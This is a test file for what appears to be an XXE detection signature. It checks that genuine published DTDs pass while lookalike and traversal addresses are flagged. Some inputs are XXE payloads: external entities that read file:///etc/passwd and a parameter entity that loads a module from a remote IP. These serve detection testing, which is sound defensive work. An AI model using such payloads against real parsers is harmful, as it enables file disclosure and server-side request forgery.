import { expect, test } from 'vitest';
import { xxe } from '../../../src/attacks/signatures/xxe.ts';
import { isPublishedDtd } from '../../../src/attacks/xml/published-dtds.ts';
import { firstMatch } from '../paths/request-of.ts';

const confidenceOf = (body: string): number =>
  firstMatch(xxe, { method: 'POST', contentType: 'application/xml', body })?.confidence ?? 0;

test.each([
  'http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd',
  'https://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent',
  'http://java.sun.com:80/dtd/properties.dtd',
  'HTTP://Java.Sun.com/dtd/web-app_2_3.dtd',
  'http://www.wapforum.org/DTD/wml_1.1.xml',
  'http://xml.resource.org/public/rfc/bibxml/reference.RFC.2119.xml',
  ' http://testng.org/testng-1.0.dtd ',
])('%s is published', (address) => {
  expect(isPublishedDtd(address)).toBe(true);
});

test.each([
  ['/usr/share/xml/acme/dtd/4.2/menu.dtd', true],
  ['/usr/share/lib/xml/dtd/services.dtd.1', true],
  ['/usr/share/../../tmp/a.dtd', false],
  ['/usr/share/a/b.xml', false],
  ['/tmp/a.dtd', false],
  ['file:///usr/share/xml/a/b.dtd', false],
])('%s as the type of a document is one that is installed: %s', (address, isInstalled) => {
  expect(confidenceOf(`<!DOCTYPE menu SYSTEM "${address}"><menu><item>Soup</item></menu>`) === 0).toBe(isInstalled);
});

test.each([
  'http://www.w3.org.attacker.example/x.dtd',
  'http://attackerw3.org/x.dtd',
  'http://www.w3.org@attacker.example/x.dtd',
  'http://attacker.example/www.w3.org/x.dtd',
  'http://attacker.example\\@www.w3.org/x.dtd',
  'http://attacker.example#@www.w3.org/x.dtd',
  'http://attacker.example?www.w3.org/x.dtd',
  'http://www.w3.org\\.attacker.example/x.dtd',
  'http://www.w3.org%2eattacker.example/x.dtd',
  'http://www.w3\u3002org.attacker.example/x.dtd',
  'http://\u24e6ww.w3.org/x.dtd',
  'http://www.w3.\u043erg/x.dtd',
  'http://www.freedes\u212atop.org/x.dtd',
  'http://www.w3.org:8080/x.dtd',
  'http://www.w3.org./x.dtd',
  '//www.w3.org/x.dtd',
  'ftp://www.w3.org/x.dtd',
  'jar:http://www.w3.org/x.jar!/x.dtd',
  'http://people.apache.org/~ann/x.dtd',
  'http://gitlab.gnome.org/ann/x/raw/x.dtd',
  'http://anyproject.sourceforge.net/x.dtd',
  'http://services.w3.org/xslt?xmlfile=x.dtd',
  'http://www.w3.org/x.php?to=http://attacker.example/x.dtd',
  'http://www.w3.org/%2e%2e/x.dtd',
  'http://www.w3.org/feed.xml',
])('%s only looks like it, and its document type is reported', (address) => {
  expect(isPublishedDtd(address)).toBe(false);
  expect(confidenceOf(`<!DOCTYPE r SYSTEM "${address}"><r/>`)).toBeGreaterThanOrEqual(0.8);
  expect(confidenceOf(`<!DOCTYPE r PUBLIC "-//W3C//DTD X 1.0//EN" "${address}"><r/>`)).toBeGreaterThanOrEqual(0.8);
});

test.each([
  'file:///usr/share/xml/note.dtd',
  '/srv/note.dtd',
  'C:\\dtd\\note.dtd',
  '\\\\files.example\\dtd\\note.dtd',
  '//files.example/note.dtd',
  'php://filter/resource=note.dtd',
  'attacker.example/note.dtd',
  '../attacker.example/note.dtd',
  '../../../../../../note.dtd',
  '../../etc/passwd',
  '..\\..\\note.dtd',
  '%2e%2e/note.dtd',
  'urnx:note.dtd',
  'note',
])('a document type at %s is reported whatever its name for the public', (address) => {
  expect(confidenceOf(`<!DOCTYPE r SYSTEM "${address}"><r/>`)).toBeGreaterThanOrEqual(0.8);
  expect(confidenceOf(`<!DOCTYPE r PUBLIC "-//X//DTD Note 1.0//EN" "${address}"><r/>`)).toBeGreaterThanOrEqual(0.8);
});

test('a step up to a document type is reported in a document of nothing else', () => {
  expect(confidenceOf('<!DOCTYPE r SYSTEM "../note.dtd"><r/>')).toBeGreaterThanOrEqual(0.8);
  expect(confidenceOf('<!DOCTYPE r PUBLIC "r" "../note.dtd"><r/>')).toBeGreaterThanOrEqual(0.8);
  expect(confidenceOf(`<!DOCTYPE r SYSTEM "../note.dtd"><r>${'<p>words of a letter</p>'.repeat(30)}</r>`)).toBe(0);
  expect(confidenceOf('<!DOCTYPE r PUBLIC "-//X//DTD Note 1.0//EN" "../note.dtd"><r/>')).toBe(0);
});

test('what a published document type is extended by is read all the same', () => {
  const type = 'PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd"';
  for (const subset of [
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    '<!ENTITY x SYSTEM "../../etc/passwd">',
    '<!ENTITY % isogrk1 \'<!ENTITY &#x25; f SYSTEM "file:///etc/passwd">\'>',
    '<!ENTITY % x SYSTEM "http://203.0.113.9/x.mod"> %x;',
    '%undeclared;',
  ]) {
    expect(confidenceOf(`<!DOCTYPE book ${type} [${subset}]><book><title>a</title></book>`), subset).toBeGreaterThan(
      0.5,
    );
  }
});

test.each([
  '<!DOCTYPE o [<!ELEMENT o (p, q)><!ELEMENT p (#PCDATA)><!ELEMENT q EMPTY><!ENTITY by "Ann Berg">]><o><p>&by;</p><q/></o>',
  '<!DOCTYPE o [<!ENTITY firm "Berg and Sons"><!ENTITY place "Upper Village">]><o>&firm;, &place;</o>',
])('a document that says what it is made of, or names what it repeats, probes nothing: %s', (document) => {
  expect(confidenceOf(document)).toBe(0);
});
